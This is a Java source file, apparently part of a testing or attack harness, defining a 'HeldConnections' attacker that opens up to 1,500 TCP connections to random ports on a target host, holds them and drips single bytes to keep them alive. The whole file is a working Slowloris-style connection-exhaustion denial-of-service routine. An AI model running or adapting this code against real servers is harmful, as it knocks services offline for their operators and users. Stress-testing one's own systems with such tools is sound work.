package org.gradwire.attack.intruder;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.random.RandomGenerator;

/** Holds many connections to the victim's ports, idle or with a byte now and then. */
final class HeldConnections implements Attacker {
    private static final int TIME_TO_CONNECT_MILLIS = 2_000;
    private static final int MOST_HELD = 1_500;

    @Override
    public void attack(Target target, RandomGenerator random, InputCounter inputCounter) {
        Deque<Socket> held = new ArrayDeque<>();
        while (!inputCounter.isOver()) {
            int port = target.tcpPorts().get(random.nextInt(target.tcpPorts().size()));
            inputCounter.sent();
            try {
                held.add(open(new InetSocketAddress(target.host(), port), random));
                inputCounter.connected();
            } catch (IOException _) {
                inputCounter.refused();
            }
            if (held.size() > MOST_HELD) {
                close(held.poll());
            } else if (!held.isEmpty() && random.nextInt(4) == 0) {
                drip(held, random, inputCounter);
            }
        }
        held.forEach(HeldConnections::close);
    }

    private static Socket open(InetSocketAddress address, RandomGenerator random)
            throws IOException {
        var socket = new Socket();
        try {
            socket.connect(address, TIME_TO_CONNECT_MILLIS);
            if (random.nextBoolean()) {
                socket.getOutputStream().write('G'); // the first bytes of every handshake
            }
            return socket;
        } catch (IOException e) {
            close(socket);
            throw e;
        }
    }

    /** Send one more byte on a held connection. */
    private static void drip(
            Deque<Socket> held, RandomGenerator random, InputCounter inputCounter) {
        Socket socket = held.poll();
        try {
            socket.getOutputStream().write(random.nextInt());
            held.add(socket);
        } catch (IOException _) {
            inputCounter.refused();
            close(socket);
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException _) {
            // the victim closed it
        }
    }
}
